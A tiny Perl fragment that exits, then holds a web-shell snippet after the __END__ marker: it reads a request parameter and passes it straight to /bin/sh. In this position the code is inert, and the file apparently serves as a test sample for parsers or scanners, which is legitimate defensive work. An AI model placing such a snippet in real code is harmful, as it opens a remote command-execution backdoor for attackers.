exit;
__END__
$t = param("t");
system("/bin/sh", "-c", $t);
